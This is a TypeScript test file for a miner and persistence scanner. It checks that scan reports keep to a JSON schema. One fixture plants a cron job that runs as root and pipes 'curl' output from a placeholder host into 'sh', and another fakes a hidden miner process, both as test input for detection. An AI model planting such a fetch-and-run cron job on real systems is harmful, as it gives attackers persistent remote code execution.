/** `demine schema` describes what is written: results of every kind of scan keep to it. */
import { afterAll, describe, expect, test } from 'bun:test';
import { emptyConfig } from '../../src/model/config.ts';
import { resultJsonSchema } from '../../src/model/result.ts';
import { renderJson } from '../../src/report/json.ts';
import {
  cleanResult,
  crowdedResult,
  hostileResult,
  inconclusiveResult,
  miningResult,
  suspiciousResult,
} from '../../src/report/result.fixture.ts';
import { hostileStory, lateResult, provenResult } from '../../src/report/story.fixture.ts';
import { scanRecorded } from '../../src/scan/recorded-host.fixture.ts';
import { scan } from '../../src/scan/scan.ts';
import { folderTarget } from '../../src/target/folder.ts';
import { violations } from '../json-schema.ts';
import { plantRoot } from '../persistence/root.ts';

const schema: unknown = JSON.parse(JSON.stringify(resultJsonSchema()));
const written = (result: Parameters<typeof renderJson>[0]): unknown => JSON.parse(renderJson(result));

describe('what is reported', () => {
  for (const [kind, result] of Object.entries({
    ...{ cleanResult, suspiciousResult, inconclusiveResult, miningResult, hostileResult },
    ...{ 'with a way in, other hosts and what was told': provenResult, 'that came too late': lateResult },
    'of many miners, with a hostile story': { ...crowdedResult(40), ...hostileStory('\x1b<&') },
  })) {
    test(`${kind} keeps to the schema`, () => expect(violations(schema, written(result))).toEqual([]));
  }
});

describe('what is scanned', () => {
  const root = plantRoot({
    mechanism: 'cron-drop-in',
    dress: 'fetch-and-run',
    what: 'a job that fetches',
    planted: { '/etc/cron.d/zzz': '* * * * * root curl -s http://192.0.2.10/x | sh\n' },
  });
  afterAll(() => root.remove());

  test('a running host keeps to the schema, with a miner and without', async () => {
    const miner = { pid: 4300, exe: '/var/tmp/.x/job', cpu: 95, samples: [0x9fe0, 0xbfe0, 0xdfe0, 0xffe0] };
    const words = [0x9fe0, 0xbfe0, 0xdfe0, 0xdfc0, 0xffe0, 0x1fa0, 0x9fe0, 0xbfe0, 0xdfe0, 0x9fe0];
    for (const processes of [[], [{ ...miner, samples: words }]]) {
      const { result } = await scanRecorded({ processes });
      expect(result.miners).toHaveLength(processes.length);
      expect(violations(schema, written(result))).toEqual([]);
    }
  });

  test('a folder keeps to the schema', async () => {
    const target = folderTarget(root.path);
    const asked = { interval: 0, active: false, thorough: false, keepSecrets: false, seen: [] } as const;
    const { result } = await scan(target, undefined, { ...asked, language: 'en', config: emptyConfig }, '0');
    await target.close();
    expect(result.persistence.length).toBeGreaterThan(0);
    expect(violations(schema, written(result))).toEqual([]);
  });
});

test('what breaks it anywhere is seen', () => {
  const broken: readonly object[] = [
    { ...miningResult, verdict: 'perhaps' },
    { ...miningResult, miners: [{ ...miningResult.miners[0], pid: 'one' }] },
    { ...miningResult, more: 1 },
    { ...provenResult, entry: [{ ...provenResult.entry?.[0], grade: 'certain' }] },
  ];
  for (const one of broken) expect(violations(schema, JSON.parse(JSON.stringify(one)))).not.toEqual([]);
  // A key word that the check does not know would let everything pass.
  const known = new Set(
    '$schema $id title type properties required additionalProperties items anyOf enum const minimum maximum description exclusiveMinimum'.split(
      ' ',
    ),
  );
  const unknown = new Set<string>();
  const walk = (node: unknown, isMap: boolean): void => {
    if (Array.isArray(node)) for (const one of node) walk(one, false);
    else if (typeof node === 'object' && node !== null)
      for (const [key, value] of Object.entries(node)) {
        if (!isMap && !known.has(key)) unknown.add(key);
        if (!['required', 'enum', 'const'].includes(key) || isMap)
          walk(value, !isMap && key === 'properties');
      }
  };
  walk(schema, false);
  expect([...unknown]).toEqual([]);
});
